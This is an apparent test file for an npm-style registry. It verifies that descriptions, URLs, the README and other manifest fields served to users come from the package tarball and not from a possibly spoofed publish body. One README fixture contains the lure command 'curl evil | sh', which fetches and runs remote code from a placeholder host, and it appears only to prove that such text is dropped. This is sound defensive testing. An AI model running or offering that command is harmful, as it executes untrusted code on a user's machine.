// The served manifest is the tarball's package.json as npm prepares it (security review 2,
// publish item 2): what people read (description, readme, keywords, author, homepage, types,
// ...) comes from the tarball too; a body field the tarball also has must equal it, one it
// lacks is dropped; only npm's publish metadata (_nodeVersion, _npmVersion, gitHead) is kept.

import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { startApp, type TestApp } from '../support/app.ts';
import { publishBody } from '../support/tarball.ts';

let t: TestApp;
let alice: string;
before(async () => {
  t = await startApp({});
  alice = await t.signUp('alice');
});
after(() => t.close());

const put = (name: string, body: unknown) => t.request({ method: 'PUT', url: `/${name}`, payload: body as object, token: alice });
const full = async (name: string) => (await t.request({ url: `/${name}` })).json();

/** A body whose manifest is the tarball's package.json with `body` over it. */
function body(name: string, pkg: Record<string, unknown>, over: Record<string, unknown>, files: Record<string, string> = {}) {
  const tarballManifest = { name, version: '1.0.0', main: 'index.js', ...pkg };
  return publishBody(name, '1.0.0', { manifest: { ...tarballManifest, ...over }, tarballManifest, files });
}

const TARBALL = {
  description: 'tarball desc', keywords: ['tk'], types: 't.d.ts', typings: 't.d.ts', browser: 'b.js', type: 'commonjs',
  homepage: 'https://good.example/', repository: { type: 'git', url: 'git+https://good.example/r.git' },
  bugs: { url: 'https://good.example/issues' }, funding: 'https://good.example/f', author: { name: 'Good', email: 'g@x.example' },
  contributors: [{ name: 'C' }], module: 'm.js', files: ['x'], workspaces: ['a'],
  publishConfig: { registry: 'http://127.0.0.1:4951/' }, overrides: { a: '1.0.0' }, packageManager: 'npm@10.0.0',
};

test('the reviewer\'s input: every field people read that the body states differently from the tarball is refused, naming it', async () => {
  const evil: Record<string, unknown> = {
    description: 'BODY desc', keywords: ['bk'], types: 'evil.d.ts', typings: 'evil.d.ts',
    browser: 'evil.js', type: 'module', homepage: 'https://evil.example/', repository: 'https://evil.example/r',
    bugs: { url: 'https://evil.example/' }, funding: 'https://evil.example/f', author: 'Evil <e@x>', contributors: [{ name: 'E' }],
    module: 'evil.js', files: ['evil'], workspaces: ['evil'], publishConfig: { registry: 'http://evil/' }, overrides: { a: '2.0.0' },
    packageManager: 'evil@1.0.0',
  };
  let i = 0;
  for (const [field, value] of Object.entries(evil)) {
    const name = `mc-field-${i++}`;
    const res = await put(name, body(name, TARBALL, { [field]: value }, { 'README.md': 'TARBALL README FILE' }));
    assert.equal(res.statusCode, 400, `${field}: ${res.body}`);
    assert.equal(res.json().code, 'MANIFEST_MISMATCH', field);
    assert.match(res.json().error, new RegExp(`"${field}"`), field);
    assert.equal((await t.request({ url: `/${name}` })).statusCode, 404, field);
  }
});

test('the readme is always the tarball\'s README: a body readme (a lure, or npm\'s placeholder) is dropped, never compared or served', async () => {
  for (const [i, readme] of ['BODY README: run curl evil | sh', 'ERROR: No README data found!'].entries()) {
    const name = `mc-readme-${i}`;
    const res = await put(name, body(name, TARBALL, { readme, readmeFilename: 'EVIL.md' }, { 'README.md': 'TARBALL README FILE' }));
    assert.equal(res.statusCode, 201, res.body);
    const doc = await full(name);
    assert.equal(doc.readme, 'TARBALL README FILE');
    const stored = (await t.deps.store.packages.get(name))!.versions[0].manifest;
    assert.equal(stored.readme, 'TARBALL README FILE');
    assert.equal(stored.readmeFilename, 'README.md');
  }
});

test('body fields the tarball lacks are dropped, never stored; the readme is the tarball\'s README; npm\'s metadata is kept', async () => {
  const name = 'mc-dropped';
  const res = await put(name, body(name, TARBALL, {
    'x-notes': 'A'.repeat(100_000), _hasShrinkwrap: true, engineStrict: true, preferGlobal: true, private: false, config: { x: 'y' },
    readme: 'TARBALL README FILE', readmeFilename: 'README.md', gitHead: 'deadbeef', _nodeVersion: '20.20.2', _npmVersion: '11.19.1',
  }, { 'README.md': 'TARBALL README FILE', 'index.d.ts': '' }));
  assert.equal(res.statusCode, 201, res.body);
  const doc = await full(name);
  const v = doc.versions['1.0.0'];
  for (const k of ['x-notes', 'engineStrict', 'preferGlobal', 'private', 'config']) assert.equal(v[k], undefined, k);
  assert.equal(v._hasShrinkwrap, false);
  for (const [k, want] of Object.entries(TARBALL)) assert.deepEqual(v[k], want, k);
  assert.equal(v.gitHead, 'deadbeef');
  assert.equal(v._nodeVersion, '20.20.2');
  assert.equal(v._npmVersion, '11.19.1');
  assert.equal(doc.readme, 'TARBALL README FILE');
  assert.equal(doc.readmeFilename, 'README.md');
  assert.equal(doc.description, 'tarball desc');

  // a body leaving everything out still serves the tarball's fields, and npm's fillTypes finds index.d.ts
  const bare = 'mc-bare';
  const pkg = { name: bare, version: '1.0.0', main: 'index.js', description: 'from the tarball' };
  const minimal = publishBody(bare, '1.0.0', { tarballManifest: pkg, files: { 'index.d.ts': '', 'readme.markdown': '# Hello' } });
  minimal.versions['1.0.0'] = { name: bare, version: '1.0.0', dist: minimal.versions['1.0.0'].dist };
  assert.equal((await put(bare, minimal)).statusCode, 201);
  const b = await full(bare);
  assert.equal(b.versions['1.0.0'].description, 'from the tarball');
  assert.equal(b.versions['1.0.0'].types, './index.d.ts');
  assert.equal(b.readme, '# Hello');
  assert.equal(b.readmeFilename, 'readme.markdown');
});

test('npm\'s metadata must be short strings', async () => {
  const res = await put('mc-meta', body('mc-meta', {}, { gitHead: { evil: true } }));
  assert.equal(res.statusCode, 400, res.body);
  assert.match(res.json().error, /"gitHead"/);
});
